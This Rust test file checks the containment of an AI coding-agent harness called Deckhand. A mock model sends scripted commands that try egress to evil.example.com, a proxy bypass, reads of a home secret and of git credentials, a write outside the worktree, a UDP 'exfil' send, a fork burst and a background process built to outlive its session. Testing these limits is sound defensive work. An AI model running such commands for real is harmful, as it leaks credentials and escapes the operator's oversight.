//! Containment through the built binary: what commands leave running is
//! gone before verify and the pushed tree is the verified one; the network
//! level holds (egress proxy, and Landlock for commands that skip it);
//! commands cannot write outside the worktree or read Deckhand's home or
//! the workspace checkout's credentials; a fork burst hits the process
//! limit; a root command user is refused; with `allow_workflow_changes`
//! workflow edits are committed (the commit path reverts them otherwise).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::Ordering;

use serde_json::json;

use common::{deckhand, task_branch, task_dir, RunResult, Wire};
use support::model_server::{ModelServer, Reply};
use support::repos::{commit_tree, git};

/// A repository whose checks are `test_command`, with `config` (YAML
/// lines) in `.github/deckhand.yml`.
fn repo(parent: &Path, test_command: &str, config: &str) -> PathBuf {
    let yml = format!(
        "commands:\n  test: {}\n{config}",
        serde_json::to_string(test_command).unwrap()
    );
    commit_tree(
        &parent.join("svc"),
        &[
            ("README.md", "# svc\n"),
            (".github/deckhand.yml", yml.as_str()),
        ],
    )
}

/// Research plans; code runs `commands` (after `before`) and ends.
fn script(before: Vec<Reply>, commands: &[&str]) -> Vec<Reply> {
    let mut s = vec![
        Reply::tool("update_spec", json!({"plan": ["Try it"]})),
        Reply::text("Planned."),
    ];
    s.extend(before);
    for c in commands {
        s.push(Reply::tool("run_command", json!({"command": c})));
    }
    s.push(Reply::text("Done."));
    s
}

fn run(server: &ModelServer, repo: &Path, env: &[(&str, &str)]) -> RunResult {
    let repo = repo.display().to_string();
    deckhand(
        server,
        Wire::Anthropic,
        &["run", "--repo", &repo, "--task", "Try it"],
        env,
    )
}

/// The text of every tool result the model was sent, one per line.
fn sent(server: &ModelServer) -> String {
    let Some(last) = server.requests().last().and_then(|r| r.json.clone()) else {
        return String::new();
    };
    let mut out = Vec::new();
    for message in last["messages"].as_array().into_iter().flatten() {
        for block in message["content"].as_array().into_iter().flatten() {
            if block["type"] == "tool_result" {
                out.push(block["content"].as_str().unwrap_or_default().to_string());
            }
        }
    }
    out.join("\n---\n")
}

/// A tempdir others may traverse (the command user is not root).
fn open_tempdir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

fn landlock_abi() -> i64 {
    // SAFETY: the version query reads no memory.
    unsafe {
        libc::syscall(
            libc::SYS_landlock_create_ruleset,
            std::ptr::null::<libc::c_void>(),
            0usize,
            1u32,
        )
    }
}

#[test]
fn a_background_process_is_gone_before_verify_and_the_verified_tree_is_pushed() {
    let dir = tempfile::tempdir().unwrap();
    // The check fails while anything holds the lock the background process
    // took: a task process still running when verify starts.
    let test = "if flock -n \"$TMPDIR/held\" true; then exit 0; fi; \
                echo 'a task process is still running during verify'; exit 1";
    let repo = repo(dir.path(), test, "max_attempts: 1\n");
    // It leaves the command's session and drops the run's marker, so the
    // end of run_command does not stop it; it says when it holds the lock.
    let server = ModelServer::start(script(
        vec![Reply::tool(
            "write_file",
            json!({"path": "feature.txt", "content": "the change\n"}),
        )],
        &[
            "mkfifo \"$TMPDIR/ready\"; env -u DECKHAND_RUN setsid flock \"$TMPDIR/held\" \
           sh -c 'echo up > \"$TMPDIR/ready\"; exec sleep 600' > /dev/null 2>&1 < /dev/null & \
           read up < \"$TMPDIR/ready\"; echo \"held: $up\"",
        ],
    ));
    let out = run(&server, &repo, &[]);
    assert!(sent(&server).contains("held: up"), "{}", sent(&server));
    out.assert_code(0);
    assert!(
        out.stderr
            .contains("process(es) left running (before verify)"),
        "{}",
        out.stderr
    );
    let branch = task_branch(&repo);
    let files = git(&repo, &["ls-tree", "-r", "--name-only", &branch]);
    assert!(files.contains("feature.txt"), "{files}");
    let head = git(&repo, &["rev-parse", &branch]).trim().to_string();
    let pr = std::fs::read_to_string(task_dir(&repo, &branch).join("pr.md")).unwrap();
    assert!(
        pr.contains(&format!("Verified commit: `{}`", &head[..12])),
        "the PR must name the verified commit {head}:\n{pr}"
    );
    assert!(!pr.contains("not verified"), "{pr}");
}

#[test]
fn network_level_integration_lets_github_through_and_refuses_the_rest() {
    let abi = landlock_abi();
    let dir = tempfile::tempdir().unwrap();
    let repo = repo(dir.path(), "true", "");
    let (port, hits) = common::http_server("127.0.0.1", "hello-from-github");
    let allowed = format!("curl -sS http://github.test:{port}/ok");
    let refused = "curl -sS http://evil.example.com/x; echo; curl -sS -o /dev/null -w 'code=%{http_code}' http://evil.example.com/y";
    let direct = format!(
        "env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{port}/direct; echo \" exit=$?\""
    );
    let server = ModelServer::start(script(vec![], &[&allowed, refused, &direct]));
    let server_url = format!("http://github.test:{port}");
    let out = run(
        &server,
        &repo,
        &[
            ("GITHUB_SERVER_URL", server_url.as_str()),
            ("DECKHAND_PROXY_RESOLVE", "github.test=127.0.0.1"),
        ],
    );
    out.assert_code(0);
    let sent = sent(&server);
    assert!(
        sent.contains("hello-from-github"),
        "allowed host failed:\n{sent}"
    );
    assert!(
        sent.contains("blocked by Deckhand: evil.example.com:80"),
        "{sent}"
    );
    assert!(sent.contains("code=403"), "{sent}");
    let lines = out
        .stderr
        .lines()
        .filter(|l| l.contains("blocked: evil.example.com:80 (level: integration)"))
        .count();
    assert_eq!(lines, 1, "one log line per refused host:\n{}", out.stderr);
    let branch = task_branch(&repo);
    let pr = std::fs::read_to_string(task_dir(&repo, &branch).join("pr.md")).unwrap();
    assert!(pr.contains("`evil.example.com:80`"), "{pr}");
    if abi >= 4 {
        assert_eq!(
            hits.load(Ordering::SeqCst),
            1,
            "a command that skipped the proxy reached the server:\n{sent}"
        );
        assert!(!sent.contains("exit=0"), "{sent}");
    } else {
        eprintln!(
            "\n!!! LANDLOCK NETWORK RULES MISSING (ABI {abi}): the direct connection is not refused by this kernel; checking the advisory instead !!!\n"
        );
        assert!(
            out.stderr.contains("the network level is advisory only"),
            "{}",
            out.stderr
        );
    }
}

#[test]
fn commands_cannot_write_outside_the_worktree_or_read_deckhands_secrets() {
    let abi = landlock_abi();
    let dir = tempfile::tempdir().unwrap();
    let repo = repo(dir.path(), "true", "");
    let home = dir.path().join("deckhand-home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("secret.txt"), "home-secret-value\n").unwrap();
    let workspace = dir.path().join("workspace");
    std::fs::create_dir_all(workspace.join(".git")).unwrap();
    std::fs::write(
        workspace.join(".git/config"),
        "[http]\n\textraheader = AUTHORIZATION: basic workspace-credential\n",
    )
    .unwrap();
    let outside = dir.path().join("outside.txt");
    let cmd = format!(
        "cat {}/secret.txt; cat {}/.git/config; echo owned > {}; echo inside > inside.txt; echo done",
        home.display(),
        workspace.display(),
        outside.display()
    );
    let server = ModelServer::start(script(vec![], &[&cmd]));
    let path = std::env::var("PATH").unwrap_or_default();
    let out = run(
        &server,
        &repo,
        &[
            ("HOME", home.to_str().unwrap()),
            ("GITHUB_WORKSPACE", workspace.to_str().unwrap()),
            ("PATH", path.as_str()),
        ],
    );
    out.assert_code(0);
    let sent = sent(&server);
    if abi < 1 {
        eprintln!("\n!!! LANDLOCK MISSING: filesystem rules are advisory on this kernel !!!\n");
        assert!(out.stderr.contains("advisory only"), "{}", out.stderr);
        return;
    }
    assert!(sent.contains("done"), "{sent}");
    assert!(!sent.contains("home-secret-value"), "{sent}");
    assert!(!sent.contains("workspace-credential"), "{sent}");
    assert!(!outside.exists(), "a command wrote outside the worktree");
    assert!(sent.contains("Permission denied"), "{sent}");
    let branch = task_branch(&repo);
    assert_eq!(
        git(&repo, &["show", &format!("{branch}:inside.txt")]).trim(),
        "inside"
    );
}

#[test]
fn a_fork_burst_is_stopped_by_the_process_limit() {
    if std::fs::read_to_string("/etc/passwd")
        .map(|p| !p.lines().any(|l| l.starts_with("nobody:")))
        .unwrap_or(true)
        || unsafe { libc::geteuid() } != 0
    {
        eprintln!("\n!!! SKIPPED: needs root and a `nobody` account to run commands as another user !!!\n");
        return;
    }
    let dir = open_tempdir();
    let repo = repo(
        dir.path(),
        "true",
        "command_user: nobody\nmax_processes: 40\n",
    );
    let burst = "sh -c 'i=0; while [ $i -lt 300 ]; do sleep 5 > /dev/null 2>&1 & i=$((i+1)); done; echo spawned-all' 2>&1 | tail -n 3";
    let server = ModelServer::start(script(vec![], &[burst]));
    let out = run(&server, &repo, &[]);
    out.assert_code(0);
    let sent = sent(&server);
    assert!(
        !sent.contains("spawned-all"),
        "300 processes started under a limit of 40:\n{sent}"
    );
    assert!(
        sent.contains("Cannot fork") || sent.contains("Resource temporarily unavailable"),
        "{sent}"
    );
}

#[test]
fn a_command_user_that_is_root_is_refused_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let repo = repo(dir.path(), "true", "command_user: root\n");
    let server = ModelServer::start(vec![]);
    let out = run(&server, &repo, &[]);
    out.assert_code(1);
    assert!(
        out.stderr.contains(".github/deckhand.yml"),
        "{}",
        out.stderr
    );
    // commands: (1), test: (2), command_user: (3)
    assert!(out.stderr.contains("line 3"), "{}", out.stderr);
    assert!(out.stderr.contains("uid 0"), "{}", out.stderr);
    assert!(server.requests().is_empty());
}

#[test]
fn udp_does_not_leave_on_a_closed_network() {
    let dir = tempfile::tempdir().unwrap();
    let repo = repo(dir.path(), "true", "");
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    // A datagram on loopback is queued when sendto returns, before the
    // command ends: after the run, an empty queue means none was sent.
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let send = format!(
        "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"exfil\", (\"127.0.0.1\", {port}))'; echo \"udp-exit=$?\""
    );
    let server = ModelServer::start(script(vec![], &[&send]));
    let out = run(&server, &repo, &[]);
    out.assert_code(0);
    let sent = sent(&server);
    assert!(sent.contains("udp-exit="), "the command ran:\n{sent}");
    let mut buf = [0u8; 64];
    let got = listener.recv_from(&mut buf);
    assert!(
        matches!(&got, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "a datagram arrived: {got:?}\n{sent}"
    );
    assert!(!sent.contains("udp-exit=0"), "{sent}");
}

#[test]
fn with_allow_workflow_changes_a_workflow_edit_is_committed() {
    let dir = tempfile::tempdir().unwrap();
    let repo = repo(dir.path(), "true", "allow_workflow_changes: true\n");
    let server = ModelServer::start(script(
        vec![Reply::tool(
            "write_file",
            json!({"path": ".github/workflows/ci.yml", "content": "on: push # allowed-0044\n"}),
        )],
        &["printf 'on: pull_request\\n' > .github/workflows/lint.yml && echo wrote"],
    ));
    let out = run(&server, &repo, &[]);
    out.assert_code(0);
    server.assert_finished();
    assert!(!out.stderr.contains("reverted"), "{}", out.stderr);
    let branch = task_branch(&repo);
    assert_eq!(
        git(
            &repo,
            &["show", &format!("{branch}:.github/workflows/ci.yml")]
        ),
        "on: push # allowed-0044"
    );
    assert_eq!(
        git(
            &repo,
            &["show", &format!("{branch}:.github/workflows/lint.yml")]
        ),
        "on: pull_request"
    );
}
